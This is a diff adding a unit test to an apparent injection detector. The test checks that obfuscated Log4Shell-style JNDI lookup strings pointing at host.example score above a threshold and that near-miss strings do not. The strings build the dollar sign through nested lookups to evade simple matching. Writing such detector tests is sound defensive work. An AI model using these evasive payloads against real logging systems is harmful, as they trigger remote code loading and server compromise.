@@ -59,6 +59,11 @@ TEST(Lookup, AnAttackAndItsNearMiss) {
   EXPECT_GE(points("$${jndi:ldap://host.example/a}"), kThreshold);
   EXPECT_LT(points("$jndi:ldap://host.example/a"), kThreshold);
 }
+TEST(Lookup, ADollarThatALookupGives) {
+  EXPECT_GE(points("${env:a:-${env:b:-$}{jndi:ldap://host.example}}"), kThreshold);
+  EXPECT_GE(points("${:7:-x$}{jndi:ldap://host.example}"), kThreshold);
+  EXPECT_LT(points("${a:-x}{jndi:ldap://host.example}"), kThreshold);
+}
 
 }  // namespace
 }  // namespace onesec::inspect
